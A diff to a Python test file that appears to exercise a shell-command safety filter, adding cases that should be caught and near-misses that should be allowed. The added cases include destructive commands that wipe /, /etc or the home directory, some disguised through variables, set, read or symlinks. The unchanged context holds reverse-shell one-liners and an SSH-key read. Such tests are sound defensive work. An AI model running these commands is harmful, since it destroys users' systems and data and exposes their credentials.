@@ -156,6 +156,26 @@ ERASING = [
     "echo 'echo \\\"; rm -rf /' | sh",
     "echo 'rm -rf /' > >(sh)",
     "tee >(sh) <<< 'rm -rf /'",
+    # up and up
+    "rm -rf ../../../../../../../*",
+    "rm -rf ../../../../../..",
+    "cd ../../../.. && rm -rf *",
+    "find ../../../../.. -delete",
+    # one by one
+    "find / -exec rm {} \\;",
+    "git clean -fdx /",
+    "git -C / clean -f -d",
+    # variables of the same line
+    "set -- /; rm -rf $1",
+    'set / x; rm -rf "$1"',
+    "set -- -rf /; rm $@",
+    "read x <<< /; rm -rf $x",
+    "read <<< /; rm -rf $REPLY",
+    "IFS=: read a b <<< x:/; rm -rf $b",
+    "printf -v x /; rm -rf $x",
+    "printf -v x '%s -rf %s' rm /; $x",
+    'X=/ Y=$X; rm -rf "$Y"',
+    "A=r; B=${A}m C=$B; $C -rf /",
 ]
 
 REFUSED: dict[str, list[str]] = {
@@ -201,6 +221,16 @@ REFUSED: dict[str, list[str]] = {
         'php -r \'$s=fsockopen("x",1);proc_open("sh",[$s,$s,$s],$p);\'',
         'node -e \'c=new net.Socket();c.connect(1,"x",()=>{p=require("child_process").spawn("sh",[])})\'',
     ],
+    "destroy-system": [
+        "rm -rf ../../../../etc",
+        "cd build && rm -rf ../../../../../usr/lib/../bin",
+        "find /etc -exec rm {} \\;",
+        "find /usr/lib -type f -execdir /bin/unlink {} +",
+        "git clean -fdx /etc",
+        "set -- x /etc; rm -rf $2",
+        "read -r a b <<< 'x /etc'; rm -rf $b",
+    ],
+    "destroy-home": ["find ~ -type f -exec shred {} +", "git -C ~ clean -xdf", "cd ~ && git clean -fd"],
     "share-root": [
         "docker run -v /:/host alpine rm -rf /host",
         "docker run --rm -itv /:/mnt:rw alpine",
@@ -239,6 +269,10 @@ ASKED: dict[str, list[str]] = {
 UNSEEN = [
     "find ~ -name id_rsa -exec cat {} +",
     "tar c ~",
+    "where=(/); rm -rf ${where[0]}",
+    "gone() { rm -rf $1; }; gone /",
+    "find /etc -type f | xargs rm",
+    "ln -s / x; rm -rf x/*",
     "LD_PRELOAD=/tmp/x.so ls",
     "docker exec web rm -rf /",
     "python3 -c \"__import__('os').system('r' 'm'[::1] + chr(32) + '-rf /')\"",
@@ -311,6 +345,24 @@ def test_every_row_can_be_read() -> None:
 
 
 NEAR_MISSES = [
+    # much is erased, and nothing that the system or the person needs
+    "rm -rf ../build",
+    "rm -rf ../../../dist",
+    "rm -rf ../../../../node_modules",
+    "mv ../../../../lib/a.js .",
+    "find . -name '*.pyc' -exec rm {} \\;",
+    "find /tmp/x -exec rm {} +",
+    "find /etc -name '*.bak' -exec rm {} \\;",
+    "find /etc -type f -exec grep -l rm {} +",
+    "git clean -fdx",
+    "git clean -ndx /",
+    "git -C ~/project clean -fdx",
+    "git clean -fdx build ../out",
+    "set -- build; rm -rf $1",
+    'read -r name <<< build; rm -rf "$name"',
+    "read -rp 'Name: ' name; echo $name",
+    "printf -v now '%(%F)T' -1; echo $now",
+    'X=build Y=$X/out; rm -rf "$Y"',
     # sockets that nobody gets a shell of
     "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
     "exec 3>build.log; make >&3 2>&3; sh test.sh >&3",
